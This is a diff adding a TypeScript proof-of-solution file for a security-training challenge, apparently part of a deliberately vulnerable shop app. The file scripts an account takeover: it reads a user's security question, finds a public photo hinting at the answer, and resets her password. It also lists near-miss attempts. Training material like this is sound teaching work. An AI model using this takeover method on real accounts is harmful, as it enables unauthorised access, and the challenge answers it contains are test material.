@@ -1,0 +1,30 @@
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { challenge } from './challenge.ts'
+
+/** Sets a new password by the security question of an account. */
+const reset = (attacker: Attacker, name: string, answer: string) =>
+  attacker.post('/rest/user/reset-password', {
+    email: `${name}@${attacker.domain}`,
+    answer,
+    new: 'Unripe4ever!',
+    repeat: 'Unripe4ever!',
+  })
+
+export const proof = prove(challenge, {
+  exploit: async (attacker) => {
+    const email = encodeURIComponent(`emma@${attacker.domain}`)
+    const { question } = (await attacker.get(`/rest/user/security-question?email=${email}`)).json()
+    const { data } = (await attacker.get('/rest/memories')).json() as { data: { caption: string }[] }
+    const photo = data.find(({ caption }) => /third floor/.test(caption))
+    if (!question || !photo) throw new Error('The trail is gone.')
+    // What the sign in the picture reads.
+    await reset(attacker, 'emma', 'ITsec')
+  },
+  nearMisses: {
+    'the right employer of somebody else': (attacker) => reset(attacker, 'stan', 'ITsec'),
+    'the name in other letters': (attacker) => reset(attacker, 'emma', 'itsec'),
+    'the floor instead of the sign': (attacker) => reset(attacker, 'emma', 'third floor'),
+    "another customer's secret": (attacker) => reset(attacker, 'emma', 'Daniel Boone National Forest'),
+    'the question alone': (attacker) => attacker.get(`/rest/user/security-question?email=emma@${attacker.domain}`),
+  },
+})
